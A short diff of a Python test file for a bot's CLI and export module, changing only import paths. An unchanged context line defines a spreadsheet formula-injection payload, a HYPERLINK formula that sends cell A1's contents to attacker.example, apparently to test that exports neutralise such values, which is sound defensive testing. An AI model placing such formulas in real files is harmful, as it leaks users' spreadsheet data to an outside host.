@@ -10,8 +10,8 @@ from typing import Any
 import pytest
 from typer.testing import CliRunner
 
-from bot.cli import app
-from bot.export import COLUMNS, write
+from bot.cli.main import app
+from bot.export.formats import COLUMNS, write
 
 FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,"open")'
 
